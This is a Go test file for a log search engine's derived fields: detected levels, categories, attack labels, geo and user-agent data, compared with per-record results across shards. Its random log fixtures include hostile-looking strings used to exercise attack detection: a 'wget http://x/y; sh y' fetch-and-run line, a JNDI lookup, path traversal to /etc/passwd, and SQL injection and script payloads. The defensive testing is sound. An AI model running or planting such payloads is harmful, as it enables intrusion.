package query_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/stere-log/stere/index"
	"github.com/stere-log/stere/meaning"
	"github.com/stere-log/stere/model"
	"github.com/stere-log/stere/query"
	"github.com/stere-log/stere/query/derived"
	"github.com/stere-log/stere/storage/part"
	"github.com/stere-log/stere/storage/segment/segmenttest"
)

// deeds are records that say all kinds of things: with and without variables, with values
// that messages repeat, and some with fields of their own that could be made.
func deeds(random *rand.Rand, n int) []model.Record {
	pick := func(of ...string) string { return of[random.IntN(len(of))] }
	records := make([]model.Record, n)
	for i := range records {
		user := fmt.Sprintf("%s-login-%s", pick("payment", "disk", "anna"), strings.Repeat(pick("x", "y", "z"), 1+random.IntN(20)))
		message := pick(
			"user "+user+" opened the door",
			fmt.Sprintf("Failed password for invalid user %s from 10.0.0.%d port %d ssh2", user, random.IntN(99), random.IntN(9999)),
			fmt.Sprintf("Accepted password for %s from 8%d.1.2.%d port %d ssh2", user, random.IntN(4), random.IntN(9), random.IntN(9999)),
			fmt.Sprintf("SQL injection attack number %d", random.IntN(500)),
			"the author saved the rapid build", "disk full", "login2 payments3 are no words", "logged in",
			fmt.Sprintf("logged %d in", random.IntN(9)),
			fmt.Sprintf("slow query took %d ms", random.IntN(9000)),
			fmt.Sprintf("GET /a%%3Fx=%d%%3Cscript%%3E HTTP/1.1", random.IntN(99)), fmt.Sprintf("lookup %d of ${jndi:ldap://x/%d}", i, i),
			fmt.Sprintf("GET /?f=../../%d/etc/passwd&u=%s' or 1=1-- HTTP/1.1", i, user), "wget http://x/y; sh y",
			fmt.Sprintf("2024-01-31 10:00:%02d ERROR disk %d is full", random.IntN(60), i), "[warn] "+user, fmt.Sprintf("<%d>login failed", random.IntN(192)), `{"severity":40,"msg":"x"}`,
			fmt.Sprintf("10.0.0.%d - - [x] \"GET /%d HTTP/1.1\" %d 7 \"-\" \"%s\"", random.IntN(9), i, 400+random.IntN(110), pick("curl/8.5.0", user, "Mozilla/5.0 (iPad; CPU OS 15_4 like Mac OS X) Version/15.4 Safari/604.1")),
			"slowQuery in PaymentService", "", "\x11 log\x11in payment\x01card", "Größe der disk",
		)
		r := &records[i]
		r.Time = day + int64(random.IntN(n))
		r.Fields = []model.Field{field("n", fmt.Sprint(i)), {Name: "message", Kind: model.String, Text: message}, field("user", user)}
		if random.IntN(2) == 0 {
			r.Fields = append(r.Fields, field("component", pick("auth-service", "db", "web", "PaymentService")))
		}
		if random.IntN(2) == 0 {
			r.Fields = append(r.Fields, field("level", pick("info", "error", "critical", "warn")))
		}
		if random.IntN(3) == 0 {
			r.Fields = append(r.Fields, field("endpoint", pick("/login", "/orders/7", "/", "/x?id=1%27%20or%201%3D1--%20")))
		}
		if random.IntN(4) == 0 {
			r.Fields = append(r.Fields, field("status", pick("200", "404", "503", "7")), field("duration", pick("3", "5001", "9999")))
		}
		if random.IntN(4) == 0 {
			r.Fields = append(r.Fields, field("method", pick("GET", "")))
		}
		if random.IntN(5) == 0 {
			r.Fields = append(r.Fields, field("user_agent", pick("curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "")))
		}
		if random.IntN(5) == 0 {
			r.Fields = append(r.Fields, field("client_ip", pick("82.1.2.3", "10.1.2.3", "81.9.9.9:80", "nobody", "")))
		}
		if random.IntN(9) == 0 {
			r.Fields = append(r.Fields, field("client.geo.city_name", pick("Berlin", "Atlantis")))
		}
		if random.IntN(4) == 0 {
			r.Fields = append(r.Fields, field("hostname", pick("web-1", " db-2 ", strings.Repeat("x", 300))))
		}
		if random.IntN(4) == 0 {
			r.Fields = append(r.Fields, field("metadata.host", pick("web-1", "old")), field("env", pick("production", "staging")))
		}
		if random.IntN(5) == 0 {
			r.Fields = append(r.Fields, field("host.name", "own"), field("release", pick("1.2.3", "2")))
		}
		switch random.IntN(9) {
		case 0:
			r.Fields = append(r.Fields, field("category", pick("security", "mine", "7")))
		case 1:
			r.Fields = append(r.Fields, model.Field{Name: "category", Kind: model.Null})
		}
	}
	return records
}

// towns are places of addresses by their first byte.
type towns map[string]meaning.Place

// Version implements derived.Places.
func (towns) Version() string { return "towns" }

// Place implements derived.Places.
func (t towns) Place(address string) meaning.Place {
	first, _, _ := strings.Cut(address, ".")
	return t[first]
}

// knownTowns are those that the tests know.
func knownTowns() towns {
	return towns{
		"81": {Country: "DE", City: "Berlin", Latitude: "52.5", Longitude: "13.4", ASN: "3320", Organization: "Example AG"}, "82": {Country: "FR", Latitude: "48.9", Longitude: "2.4"},
	}
}

// naiveDerived returns the fields that are made of a record, by a look at its texts.
func naiveDerived(r *model.Record) map[string]string {
	text := func(name string) string {
		f, _ := r.Get(name)
		return f.Text
	}
	level, _ := model.ParseLevel(text("level"))
	made := map[string]string{}
	if text("level") == "" {
		level = meaning.DetectLevel(text("message"))
		if method, ok := r.Get("method"); ok && level == model.LevelNone && method.Text != "" {
			level = meaning.LevelOfStatus(text("status"))
		}
		if level != model.LevelNone {
			made[derived.DetectedLevel] = level.String()
		}
	}
	verdict := meaning.Judge(meaning.Evidences{
		Message: meaning.Evidence(text("message")), Component: meaning.Evidence(text("component")), Endpoint: meaning.Evidence(text("endpoint")),
		IsError: level >= model.LevelError,
	})
	if own, ok := r.Get(derived.Category); ok {
		verdict = verdict.Given(own.Text)
	}
	var labels []string
	for _, label := range verdict.Labels {
		labels = append(labels, string(label.Category))
	}
	list, _ := json.Marshal(labels)
	made[derived.Category], made[derived.Categories], made[derived.CategoryReason] = labels[0], string(list), verdict.Reason
	var attacks, reasons []string
	inMessage, inEndpoint := meaning.Attacks(text("message")), meaning.Attacks(text("endpoint"))
	for _, name := range meaning.AttackNames() {
		is := func(f meaning.Finding) bool { return f.Attack == name }
		if i := slices.IndexFunc(inMessage, is); i >= 0 {
			attacks, reasons = append(attacks, string(name)), append(reasons, string(name)+": "+inMessage[i].Signature+" in the message")
		} else if i := slices.IndexFunc(inEndpoint, is); i >= 0 {
			attacks, reasons = append(attacks, string(name)), append(reasons, string(name)+": "+inEndpoint[i].Signature+" in a field")
		}
	}
	if len(attacks) > 0 {
		list, _ = json.Marshal(attacks)
		made[derived.Attack], made[derived.AttackReason] = string(list), strings.Join(reasons, "; ")
	}
	took := meaning.DurationUnknown
	if f, ok := r.Get("duration"); ok {
		took = meaning.DurationShort
		if len(f.Text) > 3 && f.Text > "5000" {
			took = meaning.DurationLong
		}
	}
	var names []meaning.Attack
	for _, attack := range attacks {
		names = append(names, meaning.Attack(attack))
	}
	signals := meaning.Signals(took, meaning.SignalsIn(text("message")), meaning.SignalsIn(text("endpoint")), meaning.SignalsIn(text("component")),
		meaning.SignalsOfStatus(text("status")), meaning.SignalsOfAttacks(names))
	var ids []string
	for _, signal := range signals {
		ids = append(ids, signal.ID)
	}
	if len(ids) > 0 {
		list, _ = json.Marshal(ids)
		made[derived.Signal], made[derived.SignalSeverity], made[derived.SignalConfidence] = string(list), signals[0].Severity, fmt.Sprint(signals[0].Confidence)
	}
	request, _ := meaning.RequestOf(text("message"))
	method, status := strings.ToUpper(text("method")), text("status")
	if meaning.LevelOfStatus(status) == model.LevelNone {
		status = request.Status
	}
	if method == "" {
		method = request.Method
	}
	userAgent := text("user_agent")
	if userAgent == "" {
		userAgent = request.Agent
	}
	agent := meaning.AgentOf(userAgent)
	address := meaning.PublicAddress(text("client_ip"))
	if address == "" {
		address = meaning.ClientOf(text("message"))
	}
	place := knownTowns().Place(address)
	host := strings.TrimSpace(text("hostname"))
	if host == "" || len(host) > 255 {
		host = text("metadata.host")
	}
	for name, value := range map[string]string{
		"client.geo.country_iso_code": place.Country, "client.geo.city_name": place.City, "client.geo.location.lat": place.Latitude, "client.as.number": place.ASN,
		"http.request.method": method, "http.response.status_code": status, "user_agent.name": agent.Name, "user_agent.os.name": agent.OS, "user_agent.device.type": agent.DeviceKind,
		"host.name": host, "service.version": text("release"), "service.environment": text("env"),
	} {
		if value != "" {
			made[name] = value
		}
	}
	if text("level") != "" {
		made[model.FieldLevel] = text("level")
	}
	for _, name := range []string{"client.geo.city_name", "host.name"} {
		made[name] += "" // they are sent, too
	}
	for name := range made {
		if own, ok := r.Get(name); ok && own.Kind != model.Null {
			made[name] = own.Text
		}
	}
	maps.DeleteFunc(made, func(name, value string) bool {
		return value == "" && (name == "client.geo.city_name" || name == "host.name")
	})
	return made
}

// TestDerivedIsNaive asks for fields that are made in every way and compares with a look
// at each record: in blocks, sealed and on several nodes.
func TestDerivedIsNaive(t *testing.T) {
	random := rand.New(rand.NewPCG(71, 72))
	many := 700
	if testing.Short() {
		many = 200
	}
	records := deeds(random, many)
	values := map[string]map[string][]int{} // by field, then value: the numbers of records
	for i := range records {
		for name, value := range naiveDerived(&records[i]) {
			if values[name] == nil {
				values[name] = map[string][]int{}
			}
			values[name][value] = append(values[name][value], i)
		}
	}
	if len(values[derived.Category]) < 7 {
		t.Fatalf("only %d categories: the test is broken", len(values[derived.Category]))
	}
	heads := deal(t, random, records, 3, 3)
	sealed := make(shardSet, len(heads))
	for i, parts := range heads {
		sealed[i] = []part.Part{segmenttest.Seal(t, model.ShardID(i), parts)}
	}
	known := query.Config{Places: func() derived.Places { return knownTowns() }}
	apart, _ := scatter(random, sealed, 2, known)
	for name, shards := range map[string]query.Shards{"head": heads, "sealed": sealed, "scattered": apart} {
		if testing.Short() && name != "scattered" {
			continue
		}
		engine := query.New(shards, known)
		for made, want := range values {
			for range 2 { // the second time from what is kept
				rows := search(t, engine, query.Request{Text: "* | stats count() by (" + made + ")"}).Rows
				got := map[string]int64{}
				for _, row := range rows {
					got[cellText(row[0])] += row[1].(int64)
				}
				for value, numbers := range want {
					if got[value] != int64(len(numbers)) {
						t.Errorf("%s: %d records with %s %q, want %d", name, got[value], made, value, len(numbers))
					}
				}
				delete(got, "null")
				if len(got) != len(want) {
					t.Errorf("%s: %d values of %s, want %d: %v", name, len(got), made, len(want), got)
				}
			}
			for value, numbers := range want {
				if random.IntN(len(want)/8+1) > 0 {
					continue // of many values some
				}
				checkDerived(t, name, engine, made, value, numbers, records)
			}
		}
		checkDetectedOrder(t, name, engine, values[derived.DetectedLevel])
		facets := search(t, engine, query.Request{Text: "*", Facets: []string{derived.Category}}).Facets[derived.Category]
		for _, facet := range facets {
			if want := values[derived.Category][cellText(facet.Value)]; facet.Count != uint64(len(want)) {
				t.Errorf("%s: the facet counts %d of %v, want %d", name, facet.Count, facet.Value, len(want))
			}
		}
		if len(facets) == 0 {
			t.Errorf("%s: no facets", name)
		}
	}
}

// cellText returns a cell as a record has it.
func cellText(cell any) string {
	if text, ok := cell.(string); ok {
		return text
	}
	data, err := json.Marshal(cell)
	if err != nil {
		return err.Error()
	}
	return string(data)
}

// checkDetectedOrder compares detected levels: by severity, whatever a level is called.
func checkDetectedOrder(t *testing.T, name string, engine *query.Engine, levels map[string][]int) {
	t.Helper()
	count := func(names ...string) (n int64) {
		for _, level := range names {
			n += int64(len(levels[level]))
		}
		return n
	}
	if count("error", "critical") == 0 || count("info", "debug", "trace") == 0 {
		t.Fatalf("levels %v: the test is broken", levels)
	}
	for condition, want := range map[string]int64{
		"detected_level>=error": count("error", "critical"), "detected_level<WARNING": count("info", "debug", "trace"), "detected_level:FATAL": count("critical"), "detected_level:[info TO error]": count("info", "warn", "error"),
	} {
		for _, text := range []string{condition + " | stats count()", "* | stats count_if(" + condition + ")"} {
			if got := search(t, engine, query.Request{Text: text}).Rows[0][0]; got != want {
				t.Errorf("%s: %s: %v, want %d", name, text, got, want)
			}
		}
	}
	where := `* | where detected_level >= "error" | stats count()`
	if got, want := search(t, engine, query.Request{Text: where}).Rows[0][0], count("error", "critical"); got != want {
		t.Errorf("%s: %s: %v, want %d", name, where, got, want)
	}
}

// TestMadeConditionsTogether: what a question that names several values of made fields,
// each beside something else, finds and counts is what a look at each record finds.
func TestMadeConditionsTogether(t *testing.T) {
	random := rand.New(rand.NewPCG(73, 74))
	records := deeds(random, 700)
	made := make([]map[string]string, len(records))
	values := map[string][]string{}
	for i := range records {
		made[i] = naiveDerived(&records[i])
		for _, name := range []string{derived.Category, derived.DetectedLevel, "http.response.status_code", "user_agent.name"} {
			if value := made[i][name]; value != "" && !slices.Contains(values[name], value) {
				values[name] = append(values[name], value)
			}
		}
	}
	heads := deal(t, random, records, 3, 3)
	sealed := make(shardSet, len(heads))
	for i, parts := range heads {
		sealed[i] = []part.Part{segmenttest.Seal(t, model.ShardID(i), parts)}
	}
	apart, _ := scatter(random, sealed, 2, query.Config{})
	several := 0
	for range 150 {
		text, want := severalMade(random, records, made, values)
		for name, shards := range map[string]query.Shards{"head": heads, "sealed": sealed, "scattered": apart} {
			got := search(t, query.New(shards, query.Config{}), query.Request{Text: text}).Rows[0]
			for i, n := range want {
				if got[i].(int64) != n {
					t.Fatalf("%s: %s: %v, want %v", name, text, got, want)
				}
			}
		}
		if len(want) > 2 && want[0] > 1 {
			several++
		}
	}
	if several < 20 {
		t.Fatalf("%d questions find several records: the test is broken", several)
	}
}

// severalMade returns a question with several conditions on what is made, and what it
// counts: records that satisfy one of them, and those of each.
func severalMade(random *rand.Rand, records []model.Record, made []map[string]string, values map[string][]string) (text string, want []int64) {
	names := slices.Sorted(maps.Keys(values))
	var conditions, counted []string
	found := map[int]bool{}
	for i := range 1 + random.IntN(4) {
		message, _ := records[random.IntN(len(records))].Get(model.FieldMessage)
		word, name := "nothing", names[random.IntN(len(names))]
		if words := index.Words(message.Text); len(words) > 0 {
			word = words[random.IntN(len(words))]
		}
		value, level, n := values[name][random.IntN(len(values[name]))], "", int64(0)
		if levels := values[derived.DetectedLevel]; random.IntN(2) == 0 { // which narrows first
			level = levels[random.IntN(len(levels))]
		}
		for at := range records {
			text, _ := records[at].Get(model.FieldMessage)
			if (level != "" || index.HasWord(text.Text, word)) && made[at][name] == value && (level == "" || made[at][derived.DetectedLevel] == level) {
				n, found[at] = n+1, true
			}
		}
		beside := fmt.Sprintf("message:%q", word)
		if level != "" {
			beside = fmt.Sprintf("%s:=%q", derived.DetectedLevel, level)
		}
		conditions = append(conditions, fmt.Sprintf("(%s %s:=%q)", beside, name, value))
		counted, want = append(counted, fmt.Sprintf("count_if(%s) as n%d", conditions[i], i)), append(want, n)
	}
	if last := len(conditions) - 1; last > 1 { // one inside another
		conditions = append(conditions[:1], "("+strings.Join(conditions[1:], " OR ")+")")
	}
	return strings.Join(conditions, " OR ") + " | stats count(), " + strings.Join(counted, ", "), append([]int64{int64(len(found))}, want...)
}

// checkDerived asks for one value of a field.
func checkDerived(t *testing.T, name string, engine *query.Engine, made, value string, numbers []int, records []model.Record) {
	t.Helper()
	is := fmt.Sprintf("%s:=%q", made, value)
	isList := made == derived.Categories || made == derived.Attack || made == derived.Signal
	if isList {
		var labels []string
		if json.Unmarshal([]byte(value), &labels) != nil {
			t.Fatalf("no list: %q", value)
		}
		is, numbers = fmt.Sprintf("%s:=%q", made, labels[0]), nil
		for i := range records {
			var has []string
			if json.Unmarshal([]byte(naiveDerived(&records[i])[made]), &has) == nil && slices.Contains(has, labels[0]) {
				numbers = append(numbers, i)
			}
		}
	}
	n, all := int64(len(numbers)), int64(len(records))
	errors := int64(0)
	for _, i := range numbers {
		if naiveDerived(&records[i])[model.FieldLevel] == "error" {
			errors++
		}
	}
	texts := map[string]int64{
		is + " | stats count()":                                     n,
		"-" + is + " | stats count()":                               all - n,
		is + ` n:* | stats count()`:                                 n,
		is + " level:=error | stats count()":                        errors,
		"NOT (" + is + " OR -n:*) | stats count()":                  all - n,
		"* | stats count_if(" + is + ")":                            n,
		"(" + is + " OR (" + is + " level:=error)) | stats count()": n,
	}
	if !isList {
		texts[fmt.Sprintf("* | where %s == %q | stats count()", made, value)] = n
		texts[fmt.Sprintf("* | eval c = %s | where c == %q | stats count()", made, value)] = n
	}
	for text, want := range texts {
		if got := search(t, engine, query.Request{Text: text}).Rows[0][0]; got != want {
			t.Errorf("%s: %s: %v, want %d", name, text, got, want)
		}
	}
	found := search(t, engine, query.Request{Text: is + " | fields n, " + made + " | limit 5"})
	for _, hit := range found.Hits {
		got, _ := hit.Record.Get(made)
		if i := number(t, &hit.Record); got.Text != naiveDerived(&records[i])[made] {
			t.Errorf("%s: record %d has %q, want %q", name, i, got.Text, naiveDerived(&records[i])[made])
		}
	}
	if len(found.Hits) != min(5, len(numbers)) {
		t.Errorf("%s: %d hits for %s", name, len(found.Hits), is)
	}
	for _, hit := range search(t, engine, query.Request{Text: is, Limit: 3}).Hits {
		own, has := records[number(t, &hit.Record)].Get(made)
		if got, has2 := hit.Record.Get(made); has != has2 || got != own {
			t.Errorf("%s: a record has a field that it did not come with", name)
		}
	}
}

// TestRestrictionOnMade checks that a restriction on a field that is made holds whatever
// is asked.
func TestRestrictionOnMade(t *testing.T) {
	var records []model.Record
	for i := range 40 {
		message := fmt.Sprintf("all is well %d", i)
		if i%4 == 0 {
			message = fmt.Sprintf("ERROR: disk %d failed", i)
		}
		records = append(records, model.Record{Time: int64(i + 1), Fields: []model.Field{{Name: model.FieldMessage, Kind: model.String, Text: message}}})
	}
	engine := query.New(deal(t, rand.New(rand.NewPCG(7, 8)), records, 2, 2), query.Config{})
	for _, name := range []string{"detected_level", `"detected_level"`} {
		for restriction, want := range map[string]uint64{name + ":error": 10, "NOT " + name + ":error": 30} {
			audience := query.Audience{Tenant: model.DefaultTenant, Restriction: restriction}
			for _, text := range []string{"*", "* | fields message, category", "category:* OR NOT category:*", "NOT detected_level:fatal"} {
				result := search(t, engine, query.Request{Audience: audience, Text: text, Limit: 100})
				if uint64(len(result.Hits)) != want {
					t.Errorf("%s, %s: %d records, want %d", restriction, text, len(result.Hits), want)
				}
			}
		}
	}
	result := search(t, engine, query.Request{Text: "*", Limit: 100, Filters: []query.Filter{{Field: derived.DetectedLevel, Values: []string{"error"}}}})
	if len(result.Hits) != 10 {
		t.Errorf("the filter finds %d records, want 10", len(result.Hits))
	}
}

// TestPlacesChange asks again when other places are known, and nodes that know different ones.
func TestPlacesChange(t *testing.T) {
	random := rand.New(rand.NewPCG(73, 74))
	heads := deal(t, random, deeds(random, 200), 3, 1)
	sealed := make(shardSet, len(heads))
	for i, parts := range heads {
		sealed[i] = []part.Part{segmenttest.Seal(t, model.ShardID(i), parts)}
	}
	now := derived.Places(knownTowns())
	config := query.Config{Places: func() derived.Places { return now }}
	engine := query.New(sealed, config)
	count := func(city string) any {
		return search(t, engine, query.Request{Text: `client.geo.country_iso_code:="` + city + `" | stats count()`}).Rows[0][0]
	}
	if count("DE") == int64(0) || count("AT") != int64(0) {
		t.Fatalf("%v records of DE, %v of AT: the test is broken", count("DE"), count("AT"))
	}
	before := count("DE")
	now = newerTowns{towns{"81": {Country: "AT"}}}
	if count("AT") != before || count("DE") != int64(0) {
		t.Errorf("%v records of AT, want %v, and %v of DE", count("AT"), before, count("DE"))
	}
	now = nil
	if count("AT") != int64(0) {
		t.Errorf("%v records of AT when no place is known", count("AT"))
	}

	apart, leaves := scatter(random, sealed, 1, query.Config{})
	for i := range apart.at {
		apart.at[i] = leaves[0]
	}
	audience := query.Audience{Tenant: model.DefaultTenant, Restriction: "client.geo.country_iso_code:DE"}
	result := search(t, query.New(apart, query.Config{Places: func() derived.Places { return knownTowns() }}), query.Request{Audience: audience, Text: "* | stats count()"})
	if result.Complete || result.Rows[0][0] != int64(0) {
		t.Errorf("a node that knows no places shows %v records to who may see those of DE", result.Rows[0][0])
	}
	for text, complete := range map[string]bool{"* | stats count() by (client.geo.city_name)": false, "* | stats count() by (user)": true} {
		result := search(t, query.New(apart, query.Config{Places: func() derived.Places { return knownTowns() }}), query.Request{Text: text})
		if result.Complete != complete || complete != (result.Reason == "") {
			t.Errorf("%s over a node that knows no places: complete %t: %q", text, result.Complete, result.Reason)
		}
	}
}

// newerTowns are towns of another version.
type newerTowns struct{ towns }

// Version implements derived.Places.
func (newerTowns) Version() string { return "newer towns" }

// naiveCategories returns what words say of a record, by a look at its texts.
func naiveCategories(r *model.Record, words *meaning.Lexicon) map[string]string {
	if words == nil {
		words = meaning.BuiltIn()
	}
	text := func(name string) string {
		f, _ := r.Get(name)
		return f.Text
	}
	made := naiveDerived(r)
	level, _ := model.ParseLevel(made[derived.DetectedLevel] + made[model.FieldLevel]) // of which there is one
	verdict := words.Judge(meaning.Evidences{
		Message: words.Evidence(text("message")), Component: words.EvidenceOfComponent(text("component")), Endpoint: words.Evidence(text("endpoint")), IsError: level >= model.LevelError,
	})
	if own, ok := r.Get(derived.Category); ok {
		verdict = verdict.Given(own.Text)
	}
	var labels []string
	for _, label := range verdict.Labels {
		labels = append(labels, string(label.Category))
	}
	list, _ := json.Marshal(labels)
	found := map[string]string{derived.Category: labels[0], derived.Categories: string(list), derived.CategoryReason: verdict.Reason}
	if own, ok := r.Get(derived.Category); ok && own.Kind != model.Null {
		found[derived.Category] = own.Text
	}
	return found
}

// TestWordsOfTenants asks for categories while the words change that decide them, and
// compares with a look at each record: in blocks, sealed, and on several nodes of which only
// the root knows the words.
func TestWordsOfTenants(t *testing.T) {
	random := rand.New(rand.NewPCG(75, 76))
	records := deeds(random, 500)
	heads := deal(t, random, records, 3, 3)
	sealed := make(shardSet, len(heads))
	for i, parts := range heads {
		sealed[i] = []part.Part{segmenttest.Seal(t, model.ShardID(i), parts)}
	}
	apart, _ := scatter(random, sealed, 2, query.Config{})
	lexicon := func(own ...meaning.Vocabulary) *meaning.Lexicon {
		words, err := meaning.NewLexicon(own)
		if err != nil {
			t.Fatal(err)
		}
		return words
	}
	steps := []*meaning.Lexicon{
		nil,
		lexicon(meaning.Vocabulary{Category: "doors", Words: []string{"door", "größe", "rapid build"}, Weight: 3}, meaning.Vocabulary{Category: meaning.Storage, Words: []string{"author"}, Weight: 1.5}),
		lexicon(meaning.Vocabulary{Category: "doors", Words: []string{"user"}, Components: []string{"paymentservice", "web"}, Weight: 10}),
		nil,
	}
	var now *meaning.Lexicon
	config := query.Config{Words: func(tenant model.TenantID) *meaning.Lexicon { return now }}
	for name, shards := range map[string]query.Shards{"head": heads, "sealed": sealed, "scattered": apart} {
		engine := query.New(shards, config)
		for step, words := range steps {
			now = words
			want := map[string]map[string]int64{derived.Category: {}, derived.Categories: {}, derived.CategoryReason: {}}
			for i := range records {
				for field, value := range naiveCategories(&records[i], words) {
					want[field][value]++
				}
			}
			if owned := want[derived.Category]["doors"] > 20; owned != (words != nil) {
				t.Fatalf("%v: the test is broken", want[derived.Category])
			}
			for field, counts := range want {
				rows := search(t, engine, query.Request{Text: "* | stats count() by (" + field + ")"}).Rows
				for _, row := range rows {
					if row[1] != counts[cellText(row[0])] {
						t.Errorf("%s, step %d: %v records with %s %v, want %d", name, step, row[1], field, row[0], counts[cellText(row[0])])
					}
				}
				if len(rows) != len(counts) {
					t.Errorf("%s, step %d: %d values of %s, want %d", name, step, len(rows), field, len(counts))
				}
			}
			doors := want[derived.Category]["doors"]
			for text, want := range map[string]int64{
				"category:doors | stats count()":                         doors,
				"NOT category:doors | stats count()":                     int64(len(records)) - doors,
				`* | where category == "doors" | stats count()`:          doors,
				`category:doors n:* | stats count_if(category_reason:*)`: doors,
				"category:mine | stats count()":                          want[derived.Category]["mine"],
			} {
				if got := search(t, engine, query.Request{Text: text}).Rows[0][0]; got != want {
					t.Errorf("%s, step %d: %s: %v, want %d", name, step, text, got, want)
				}
			}
			for _, facet := range search(t, engine, query.Request{Text: "*", Facets: []string{derived.Category}}).Facets[derived.Category] {
				if facet.Count != uint64(want[derived.Category][cellText(facet.Value)]) {
					t.Errorf("%s, step %d: the facet counts %d of %v", name, step, facet.Count, facet.Value)
				}
			}
			restricted := query.Audience{Tenant: model.DefaultTenant, Restriction: "NOT category:doors"}
			if got := search(t, engine, query.Request{Audience: restricted, Text: "* | stats count()"}).Rows[0][0]; got != int64(len(records))-doors {
				t.Errorf("%s, step %d: who may not see doors sees %v records", name, step, got)
			}
			for _, hit := range search(t, engine, query.Request{Text: "category:* | fields n, category, category_reason | limit 20"}).Hits {
				got, _ := hit.Record.Get(derived.CategoryReason)
				if i := number(t, &hit.Record); got.Text != naiveCategories(&records[i], words)[derived.CategoryReason] {
					t.Errorf("%s, step %d: the reason of record %d is %q", name, step, i, got.Text)
				}
			}
		}
	}
}
